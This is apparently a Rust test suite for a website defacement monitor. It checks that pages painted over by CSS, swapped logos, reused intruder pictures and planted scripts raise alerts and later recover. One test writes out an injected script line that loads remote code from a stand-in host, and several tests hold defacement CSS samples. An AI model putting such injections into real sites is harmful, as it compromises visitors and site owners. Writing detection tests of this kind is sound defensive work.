//! What paints a page, and what its pictures show: fetched beside the page, politely, and judged with it.

use data_encoding::BASE64;
use frontwatch_core::incident::Resolution;
use frontwatch_core::observation::{FailureKind, Outcome};
use frontwatch_core::text::Speech;
use frontwatch_core::verdict::Verdict;
use frontwatch_engine::api::normal::portraits;
use frontwatch_engine::ports::{Clock, Freshness};
use frontwatch_engine::store::ShownSide;
use jiff::SignedDuration;
use jiff::tz::TimeZone;

use crate::page;
use crate::web::{answer, page as served};
use crate::world::{Life, PAPER, World, configured, homepage, minutes, seconds};

const SHEET: &str = "http://127.0.0.1:9/css/site.css";
const SCRIPT: &str = "http://127.0.0.1:9/js/site.js";
const LOGO: &str = "http://127.0.0.1:9/img/logo.png";

const STYLE: &str =
    ".masthead{border-bottom:3px solid #333}.cards{display:grid}.dialog{position:fixed;inset:0;display:none}";
const CODE: &str = "(function(){var nav=document.querySelector('nav');if(nav){nav.classList.add('ready')}})();";

fn drawing(inside: &str) -> String {
    format!("<svg xmlns='http://www.w3.org/2000/svg' width='200' height='60'>{inside}</svg>")
}

fn logo() -> String {
    drawing(
        "<rect x='4' y='8' width='60' height='44' fill='#123'/><rect x='80' y='20' width='100' height='8' fill='#123'/>",
    )
}

pub(crate) fn mark() -> String {
    drawing("<circle cx='100' cy='30' r='26' fill='#080'/><path d='M20 50 L60 8 L90 50 Z'/>")
}

/// The paper with all its files, and a page that stands still.
fn still() -> World {
    let world = World::new();
    files(&world, PAPER);
    let body = page::front("Paper", "2026-09-21T13:46:00Z".parse().unwrap());
    world.web.serve(PAPER, move |order, _| served(order, &body));
    world
}

pub(crate) fn files(world: &World, at: &str) {
    world.web.file(&format!("{at}css/site.css"), STYLE);
    world.web.file(&format!("{at}js/site.js"), CODE);
    world.web.file(&format!("{at}img/logo.png"), &logo());
}

fn kinds(life: &Life) -> Vec<String> {
    let verdicts = life.verdicts();
    verdicts.last().map(|v| v.said.signals.iter().map(|signal| signal.kind.clone()).collect()).unwrap_or_default()
}

#[tokio::test(start_paused = true)]
async fn a_page_that_is_painted_over_with_its_html_unchanged_is_an_incident_within_40_seconds() {
    let attacks = [
        (SHEET, format!("{STYLE}.cards{{position:fixed;inset:0;background:#000}}"), STYLE.to_owned(), "painted.cover"),
        (SHEET, format!("{STYLE}body{{visibility:hidden}}"), STYLE.to_owned(), "painted.hidden"),
        (LOGO, mark(), logo(), "picture.repainted"),
    ];
    for (url, bad, good, kind) in attacks {
        let world = still();
        let life = world.watch_paper().await;
        world.learned(&life, "Paper").await;
        world.pass(seconds(61)).await;
        world.web.file(url, &bad);
        let took = world.until(seconds(40), "an alert", || world.screen.raised().len() == 1).await;
        println!("{kind}: {took:?}");
        assert_eq!(kinds(&life), [kind]);
        let confirmed = world.web.parts_at(url).iter().filter(|look| look.freshness == Freshness::Confirmation).count();
        assert_eq!(confirmed, 1, "over a new connection");
        world.pass(minutes(60)).await;
        assert_eq!(life.unresolved().await.len(), 1, "it stands, and is never learned: {kind}");
        world.web.file(url, &good);
        world.until(seconds(45), "recovery", || world.screen.raised().len() == 2).await;
        assert_eq!(life.unresolved().await, []);
        world.stop(life).await;
    }
}

#[tokio::test(start_paused = true)]
async fn a_part_counts_with_every_status_with_which_a_browser_takes_it() {
    let hides = || format!("{STYLE}body{{visibility:hidden}}");
    for (url, bad, status, told) in [
        (SHEET, hides(), 203, Some("painted.hidden")),
        (SHEET, hides(), 404, None),
        (SHEET, hides(), 500, None),
        (LOGO, mark(), 404, Some("picture.repainted")),
        (LOGO, mark(), 500, Some("picture.repainted")),
        (LOGO, "<!DOCTYPE html><title>Not found</title>".to_owned(), 404, None),
        (LOGO, "\u{89}PNG not a picture".to_owned(), 404, None),
    ] {
        let world = still();
        let life = world.watch_paper().await;
        world.learned(&life, "Paper").await;
        world.pass(seconds(61)).await;
        world.web.serve(url, move |order, _| Outcome::Answered(answer(order, status, &bad)));
        world.pass(seconds(70)).await;
        let kinds: Vec<String> =
            life.unresolved().await.iter().flat_map(|it| &it.signals).map(|it| it.kind.clone()).collect();
        assert_eq!(kinds.first().map(String::as_str), told, "{url} with {status}: {kinds:?}");
        world.stop(life).await;
    }
}

#[tokio::test(start_paused = true)]
async fn a_logo_that_was_exchanged_is_shown_as_it_was_and_as_it_is() {
    let world = still();
    let life = world.watch_paper().await;
    world.learned(&life, "Paper").await;
    world.pass(seconds(61)).await;
    world.web.file(LOGO, &mark());
    world.until(seconds(40), "an alert", || world.screen.raised().len() == 1).await;
    world.pass(minutes(2)).await;
    let id = life.unresolved().await[0].id.clone();
    let shown = life.store.shown(id.clone()).await.unwrap();
    let sides: Vec<_> = shown.iter().map(|it| (it.side.clone(), it.url.as_str())).collect();
    assert_eq!(sides, [(ShownSide::Before(id.clone()), LOGO), (ShownSide::Now(id.clone()), LOGO)]);
    assert!(shown.iter().all(|it| it.png.starts_with(b"\x89PNG")), "packed by us: a drawing is none of them");
    assert_ne!(shown[0].png, shown[1].png);

    world.web.file(LOGO, &logo());
    world.until(seconds(45), "recovery", || world.screen.raised().len() == 2).await;
    world.pass(minutes(10)).await;
    assert_eq!(life.store.shown(id).await.unwrap(), shown, "what was shown stays with the incident");
    world.stop(life).await;
}

/// What is given of a front page as its logos: where each is, and that it was packed anew.
async fn logos(life: &Life, outlet: &str) -> Vec<(String, Vec<u8>)> {
    let speech = Speech::new(&["en".to_owned()], TimeZone::UTC);
    let [page] = portraits(outlet, &life.handle.overview().await.unwrap(), &life.store, &speech)
        .await
        .unwrap()
        .try_into()
        .unwrap();
    let logos = page.logos.into_iter().map(|logo| (logo.address, BASE64.decode(logo.png.as_bytes()).unwrap()));
    logos.collect()
}

#[tokio::test(start_paused = true)]
async fn what_the_logos_of_a_page_show_is_given_with_what_is_normal_and_goes_with_it() {
    const PLAIN: &str = "http://127.0.0.1:10/";
    const NEXT: &str = "http://127.0.0.1:9/img/next.png";
    let world = still();
    let body = page::front("Plain", "2026-09-21T13:46:00Z".parse().unwrap()).replace("<img class=\"logo\"", "<b");
    world.web.serve(PLAIN, move |order, _| served(order, &body));
    let life = world.watch(&configured(&[("Paper", PAPER), ("Plain", PLAIN)])).await;
    assert_eq!(logos(&life, "Paper").await, [], "before the first look");
    world.learned(&life, "Paper").await;
    let [(address, png)] = logos(&life, "Paper").await.try_into().unwrap();
    assert_eq!(address, LOGO);
    assert!(png.starts_with(b"\x89PNG"), "packed by us: a drawing is none");
    assert_eq!(logos(&life, "Plain").await, [], "a page without one has none, and none of another outlet's");

    // What stands there in an alarm is not normal.
    world.pass(seconds(61)).await;
    world.web.file(LOGO, &mark());
    world.until(seconds(40), "an alert", || world.screen.raised().len() == 1).await;
    world.pass(minutes(2)).await;
    assert_eq!(logos(&life, "Paper").await, [(LOGO.to_owned(), png.clone())]);

    // A person says that it is theirs, and has it learned anew: then it is what is seen from then on.
    let id = life.unresolved().await[0].id.clone();
    life.handle.resolve(id, Resolution::Ours).await.unwrap();
    world.pass(minutes(2)).await;
    life.handle.forget(vec![homepage(PAPER)]).await.unwrap();
    world.pass(minutes(2)).await;
    let [(address, now)] = logos(&life, "Paper").await.try_into().unwrap();
    assert_eq!(address, LOGO);
    assert!(now.starts_with(b"\x89PNG") && now != png);

    // Where it can't be fetched then, none is shown: not the one that was forgotten.
    world.web.answer(LOGO, 404, "Not found");
    life.handle.forget(vec![homepage(PAPER)]).await.unwrap();
    world.pass(minutes(2)).await;
    assert_eq!(logos(&life, "Paper").await, []);

    // Another one in another place takes its place; the one before is none of the page any more.
    world.web.file(NEXT, &logo());
    let body = page::front("Paper", "2026-09-21T13:46:00Z".parse().unwrap()).replace("/img/logo.png", "/img/next.png");
    world.web.serve(PAPER, move |order, _| served(order, &body));
    life.handle.forget(vec![homepage(PAPER)]).await.unwrap();
    world.pass(minutes(2)).await;
    assert_eq!(logos(&life, "Paper").await, [(NEXT.to_owned(), png)]);
    world.stop(life).await;
}

#[tokio::test(start_paused = true)]
async fn of_the_pictures_of_a_page_its_logos_are_given_and_those_that_it_has_now() {
    const FIRST: &str = "http://127.0.0.1:9/img/1.png";
    const SECOND: &str = "http://127.0.0.1:9/img/2.png";
    let at = "2026-09-21T13:46:00Z".parse().unwrap();
    let with = |logos: &[&str]| {
        let images = logos.iter().map(|logo| format!("<img class=\"logo\" src=\"{logo}\">"));
        let images = images.collect::<Vec<_>>().concat();
        page::front("Paper", at).replace("<img class=\"logo\"", &format!("{images}<img class=\"logo\""))
    };
    let world = World::new();
    let publish = |logos: &[&str]| {
        let body = with(logos);
        world.web.serve(PAPER, move |order, _| served(order, &body));
    };
    files(&world, PAPER);
    for (url, inside) in [(FIRST, "<rect width='90' height='50'/>"), (SECOND, "<path d='M0 0 L200 60 L0 60 Z'/>")] {
        world.web.file(url, &drawing(inside));
    }
    // Pictures of stories are none of them.
    let front = with(&[]);
    for story in front.split("/media/").skip(1).filter_map(|rest| rest.split('"').next()) {
        world.web.file(&format!("{PAPER}media/{story}"), &mark());
    }
    publish(&[FIRST]);
    let life = world.watch_paper().await;
    world.learned(&life, "Paper").await;
    world.pass(minutes(10)).await;
    let given = async || {
        let mut given: Vec<String> = logos(&life, "Paper").await.into_iter().map(|(address, _)| address).collect();
        given.sort();
        given
    };
    assert_eq!(given().await, [FIRST, LOGO]);
    let kept = life.store.logos(homepage(PAPER)).await.unwrap();
    assert_eq!(
        kept.len(),
        2,
        "no picture of a story is kept: {:?}",
        kept.iter().map(|it| it.url.as_str()).collect::<Vec<_>>()
    );

    // A new one takes the place of one of them; the other stays.
    publish(&[SECOND]);
    world.pass(minutes(60)).await;
    assert_eq!(given().await, [SECOND, LOGO]);
    world.stop(life).await;
}

#[tokio::test(start_paused = true)]
async fn a_script_that_a_stranger_added_to_is_an_incident_within_two_looks() {
    let world = still();
    let life = world.watch_paper().await;
    world.learned(&life, "Paper").await;
    world.pass(minutes(2)).await;
    let planted = "var s=document.createElement('script');s.src='https://static.pixel-orchard.example/j.js';document.head.appendChild(s);";
    world.web.file(SCRIPT, &format!("{CODE}{planted}"));
    world.until(seconds(75), "an alert", || world.screen.raised().len() == 1).await;
    assert_eq!(kinds(&life), ["planted.loads"]);
    world.stop(life).await;
}

#[tokio::test(start_paused = true)]
async fn an_ordinary_day_with_releases_stays_quiet_and_polite() {
    let world = World::new();
    files(&world, PAPER);
    let life = world.watch_paper().await;
    world.pass(minutes(30)).await;
    world.web.file(SHEET, &format!("{STYLE}.card{{padding:2rem}}.modal{{position:fixed;inset:0}}"));
    world.web.file(SCRIPT, &format!("{CODE}document.title=document.title.trim();"));
    world.pass(minutes(30)).await;
    let odd: Vec<_> = life.verdicts().into_iter().skip(6).filter(|v| v.said.verdict != Verdict::Normal).collect();
    assert!(odd.is_empty(), "{odd:?}");
    assert_eq!((life.incidents().len(), world.screen.tried().len()), (0, 0));

    let looks = world.web.looks_at(PAPER).len();
    let sheets = world.web.parts_at(SHEET);
    assert!(sheets.len().abs_diff(looks) <= 2, "beside every look: {} of {looks}", sheets.len());
    let conditional = sheets.iter().filter(|look| matches!(look.freshness, Freshness::Conditional(_))).count();
    assert!(conditional * 4 > sheets.len() * 3 - 8, "mostly asked politely: {conditional} of {}", sheets.len());
    let (scripts, logos) = (world.web.parts_at(SCRIPT).len(), world.web.parts_at(LOGO).len());
    assert!(scripts <= looks / 2 + 3 && logos.abs_diff(looks) <= 2, "{scripts} {logos} {looks}");
    let all = world.web.parts();
    let most = all.iter().map(|look| all.iter().filter(|other| other.at == look.at).count()).max();
    assert!(most <= Some(12), "{most:?} at once");
    world.stop(life).await;
}

#[tokio::test(start_paused = true)]
async fn parts_that_fail_are_absent_and_asked_for_less_and_less() {
    let world = still();
    let life = world.watch_paper().await;
    world.learned(&life, "Paper").await;
    let before = world.web.parts().len();
    world.web.fail(SHEET, FailureKind::TimedOut);
    world.web.answer(SCRIPT, 503, "Service unavailable");
    world.web.answer(LOGO, 200, "Checking your browser");
    world.pass(minutes(3 * 60)).await;
    let odd: Vec<_> = life.verdicts().into_iter().skip(6).filter(|v| v.said.verdict != Verdict::Normal).collect();
    assert!(odd.is_empty(), "{odd:?}");
    let sheets = world.web.parts_at(SHEET).len();
    assert!((3..30).contains(&sheets), "{sheets} tries in three hours of {before}");
    // They come back as they were.
    files(&world, PAPER);
    world.pass(minutes(60)).await;
    assert_eq!((life.incidents().len(), world.screen.tried().len()), (0, 0));
    world.stop(life).await;
}

#[tokio::test(start_paused = true)]
async fn a_part_that_never_comes_delays_no_page() {
    let world = still();
    for url in [SHEET, SCRIPT, LOGO] {
        world.web.hang(url);
    }
    let life = world.watch_paper().await;
    world.learned(&life, "Paper").await;
    world.web.cover(PAPER, "Paper", "banner.png");
    world.until(seconds(45), "an alert", || world.screen.raised().len() == 1).await;
    world.stop(life).await;
}

#[tokio::test(start_paused = true)]
async fn a_page_that_is_painted_over_stays_an_incident_over_a_restart() {
    let world = still();
    let life = world.watch_paper().await;
    world.learned(&life, "Paper").await;
    world.pass(minutes(1)).await;
    world.web.file(SHEET, &format!("{STYLE}body{{display:none}}"));
    world.until(seconds(40), "an alert", || world.screen.raised().len() == 1).await;
    // What was being stored at that moment is stored: the lock is held until it is.
    world.pass(seconds(3)).await;
    world.cut_off(life).await;

    let life = world.watch_paper().await;
    world.pass(minutes(10)).await;
    assert_eq!(life.unresolved().await.len(), 1, "{:?}", life.story());
    assert!(life.verdicts().iter().all(|v| v.said.verdict == Verdict::Alarm), "never well before its parts came");
    assert_eq!(world.screen.raised().len(), 1);
    world.web.file(SHEET, STYLE);
    world.until(seconds(45), "recovery", || world.screen.raised().len() == 2).await;
    world.stop(life).await;
}

#[tokio::test(start_paused = true)]
async fn what_was_painted_by_the_newsroom_is_approved_like_a_page() {
    let world = still();
    let life = world.watch_paper().await;
    world.learned(&life, "Paper").await;
    world.web.file(LOGO, &mark());
    world.until(seconds(40), "an alert", || world.screen.raised().len() == 1).await;
    let open = life.unresolved().await.remove(0);
    life.handle.resolve(open.id, Resolution::Ours).await.unwrap();
    world.pass(minutes(30)).await;
    assert_eq!(life.unresolved().await, []);
    assert_eq!(life.verdicts().last().unwrap().said.verdict, Verdict::Normal);
    assert_eq!(world.screen.tried().len(), 1);
    world.stop(life).await;
}

const OTHER: &str = "http://127.0.0.2:9/";

/// Two papers, one of which is covered by a picture, which its incident remembers.
async fn covered() -> (World, Life) {
    let world = World::new();
    files(&world, PAPER);
    files(&world, OTHER);
    world.web.file(&format!("{PAPER}uploads/banner.png"), &mark());
    world.web.publish(OTHER, "Harbour");
    let life = world.watch(&configured(&[("Paper", PAPER), ("Harbour", OTHER)])).await;
    for outlet in ["Paper", "Harbour"] {
        world.learned(&life, outlet).await;
    }
    world.pass(minutes(1)).await;
    world.web.cover(PAPER, "Paper", "banner.png");
    world.until(seconds(40), "an alert", || world.screen.raised().len() == 1).await;
    world.pass(minutes(1)).await;
    (world, life)
}

#[tokio::test(start_paused = true)]
async fn a_picture_that_was_there_first_is_an_alarm_when_another_outlet_is_alarmed_by_it() {
    let world = World::new();
    files(&world, PAPER);
    files(&world, OTHER);
    world.web.file(&format!("{PAPER}uploads/banner.png"), &mark());
    let body = page::front("Harbour", "2026-09-21T13:46:00Z".parse().unwrap());
    let at = body.find("/media/").unwrap();
    let first = body[at + 1..].split('"').next().unwrap().to_owned();
    world.web.serve(OTHER, move |order, _| served(order, &body));
    let life = world.watch(&configured(&[("Paper", PAPER), ("Harbour", OTHER)])).await;
    world.learned(&life, "Harbour").await;
    world.web.file(&format!("{OTHER}{first}"), &mark());
    world.pass(minutes(30)).await;
    assert!(!alarmed(&life, "Harbour"), "nothing is wrong with it yet: {:?}", life.story());
    world.web.cover(PAPER, "Paper", "banner.png");
    world.pass(minutes(2)).await;
    assert!(alarmed(&life, "Harbour"), "although its page stands still: {:?}", life.story());
    world.stop(life).await;
}

#[tokio::test(start_paused = true)]
async fn a_picture_that_a_style_sheet_painted_is_known_elsewhere() {
    let world = World::new();
    files(&world, PAPER);
    files(&world, OTHER);
    world.web.publish(OTHER, "Harbour");
    let life = world.watch(&configured(&[("Paper", PAPER), ("Harbour", OTHER)])).await;
    for outlet in ["Paper", "Harbour"] {
        world.learned(&life, outlet).await;
    }
    world.pass(minutes(1)).await;
    let paints = "body::before{content:\"\";position:fixed;inset:0;background:#000 url(/uploads/full.png)}";
    world.web.file(SHEET, &format!("{STYLE}{paints}"));
    world.web.file(&format!("{PAPER}uploads/full.png"), &mark());
    world.pass(minutes(2)).await;
    assert!(alarmed(&life, "Paper"));
    copied(&world).await;
    assert!(alarmed(&life, "Harbour"), "{:?}", life.story());
    world.stop(life).await;
}

/// The look that confirms it sees no other bytes than the one that found it: nothing is judged anew.
#[tokio::test(start_paused = true)]
async fn a_picture_on_a_page_that_stands_still_is_known_elsewhere() {
    let world = World::new();
    files(&world, PAPER);
    files(&world, OTHER);
    world.web.file(&format!("{PAPER}uploads/banner.png"), &mark());
    world.web.publish(OTHER, "Harbour");
    let life = world.watch(&configured(&[("Paper", PAPER), ("Harbour", OTHER)])).await;
    for outlet in ["Paper", "Harbour"] {
        world.learned(&life, outlet).await;
    }
    world.pass(minutes(1)).await;
    let body = page::covered("Paper", world.clock.now(), "banner.png");
    world.web.serve(PAPER, move |order, _| served(order, &body));
    world.until(seconds(40), "an alert", || world.screen.raised().len() == 1).await;
    world.pass(minutes(1)).await;
    assert_eq!(life.store.load().await.unwrap().pictures.len(), 1);
    copied(&world).await;
    assert!(alarmed(&life, "Harbour"), "{:?}", life.story());
    world.stop(life).await;
}

/// From now on the other paper's newest story has the intruder's picture.
pub(crate) async fn copied(world: &World) {
    world.web.serve(OTHER, |order, at| {
        let front = page::front("Harbour", at);
        let at = front.find("/media/").unwrap();
        let end = at + front[at..].find('"').unwrap();
        served(order, &format!("{}/media/today.jpg{}", &front[..at], &front[end..]))
    });
    world.web.file(&format!("{OTHER}media/today.jpg"), &mark());
    world.pass(minutes(3)).await;
}

fn alarmed(life: &Life, outlet: &str) -> bool {
    life.story().iter().any(|line| *line == format!("{outlet} open"))
}

#[tokio::test(start_paused = true)]
async fn a_picture_of_another_outlets_incident_is_an_alarm_and_is_not_forgotten_over_a_restart() {
    for restarted in [false, true] {
        let (world, mut life) = covered().await;
        if restarted {
            world.stop(life).await;
            life = world.watch(&configured(&[("Paper", PAPER), ("Harbour", OTHER)])).await;
            world.pass(minutes(1)).await;
        }
        assert!(!alarmed(&life, "Harbour"));
        copied(&world).await;
        assert!(alarmed(&life, "Harbour"), "restarted: {restarted}: {:?}", life.story());
        let harbour = life.incidents().into_iter().rfind(|incident| incident.outlet == "Harbour").unwrap();
        assert!(harbour.summary.contains("an incident of Paper"), "{}", harbour.summary);
        world.stop(life).await;
    }
}

#[tokio::test(start_paused = true)]
async fn a_picture_of_an_incident_that_was_none_is_nobodys() {
    let (world, life) = covered().await;
    assert!(!life.store.load().await.unwrap().pictures.is_empty());
    let open = life.unresolved().await.remove(0);
    life.handle.resolve(open.id, Resolution::Ours).await.unwrap();
    world.pass(minutes(1)).await;
    assert_eq!(life.store.load().await.unwrap().pictures, []);
    copied(&world).await;
    assert!(!alarmed(&life, "Harbour"), "{:?}", life.story());
    world.stop(life).await;
}

#[tokio::test(start_paused = true)]
async fn a_picture_of_the_persons_own_list_is_an_alarm_and_what_cannot_be_read_is_said() {
    let world = World::new();
    files(&world, OTHER);
    world.web.publish(OTHER, "Harbour");
    let folder = world.dir.path().join("unwanted");
    std::fs::create_dir(&folder).unwrap();
    std::fs::write(folder.join("the orchard.svg"), mark()).unwrap();
    std::fs::write(folder.join("notes.txt"), "not a picture").unwrap();
    let text = configured(&[("Harbour", OTHER)]);
    let text = text.replacen(
        "[watching]\n",
        &format!("[watching]\nunwanted_pictures = {:?}\n", folder.display().to_string()),
        1,
    );
    let (life, file) = world.watch_file(&text).await;
    world.learned(&life, "Harbour").await;
    let remarks = life.remarks();
    assert!(remarks.iter().any(|said| said.contains("notes.txt") && !said.contains("orchard")), "{remarks:?}");
    copied(&world).await;
    assert!(alarmed(&life, "Harbour"), "{:?}", life.story());
    assert!(life.incidents()[0].summary.contains("the orchard.svg"), "{}", life.incidents()[0].summary);
    // The list is taken back: nothing is left to say.
    std::fs::write(&file, configured(&[("Harbour", OTHER)])).unwrap();
    world.pass(minutes(3)).await;
    assert_eq!(life.unresolved().await, []);
    world.stop(life).await;
}

#[tokio::test(start_paused = true)]
async fn parts_are_fetched_once_before_anything_is_said() {
    let world = still();
    let life = world.watch_paper().await;
    world.pass(seconds(1)).await;
    let (page, sheet) = (world.web.looks_at(PAPER), world.web.parts_at(SHEET));
    assert_eq!((page.len(), sheet.len(), life.verdicts().len()), (1, 1, 1));
    assert!(sheet[0].at.duration_since(page[0].at) < SignedDuration::from_secs(1));
    assert!(world.web.parts().len() <= 12, "{}", world.web.parts().len());
    world.stop(life).await;
}
